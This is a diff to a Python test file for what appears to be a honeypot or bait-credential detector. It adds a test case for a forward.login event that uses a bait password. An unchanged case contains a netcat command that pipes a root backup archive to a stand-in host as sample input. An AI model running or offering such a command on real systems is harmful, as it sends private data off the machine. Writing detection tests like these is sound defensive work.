@@ -133,6 +133,7 @@ def test_what_is_remembered_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
         ({"usernames": ("svc",), "passwords": ("p",)}, "auth.attempt", {"username": "svc", "password": "a"}, False),
         ({"usernames": ("svc",), "passwords": ("p",)}, "auth.attempt", {"username": "a", "password": "p"}, False),
         ({"usernames": ("svc",), "passwords": ("p",)}, "auth.attempt", {"username": "svc", "password": "p"}, True),
+        ({"passwords": ("hunter2",)}, "forward.login", {"username": "x", "password": "hunter2"}, True),
         ({"keys": ("SHA256:x",)}, "auth.attempt", {"username": "a", "key_fingerprint": "SHA256:x"}, True),
         ({"keys": ("SHA256:x",)}, "auth.attempt", {"username": "a", "key_fingerprint": "SHA256:y"}, False),
         ({"paths": ("/root/backup.tgz",)}, "channel.started", {"command": "cat /root/backup.tgz|nc x 1"}, True),
